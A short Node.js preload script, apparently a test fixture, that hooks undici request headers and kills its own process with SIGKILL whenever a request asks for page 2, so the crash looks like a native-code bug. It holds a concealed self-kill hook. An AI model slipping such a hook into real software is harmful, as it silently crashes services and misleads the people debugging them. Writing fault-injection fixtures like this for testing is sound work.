// Preload: whoever reads the second page of a list dies of it, as by a bug in native code.
import { subscribe } from 'node:diagnostics_channel'

subscribe('undici:request:headers', ({ request }) => {
  if (request.path.includes('page=2')) process.kill(process.pid, 'SIGKILL')
})
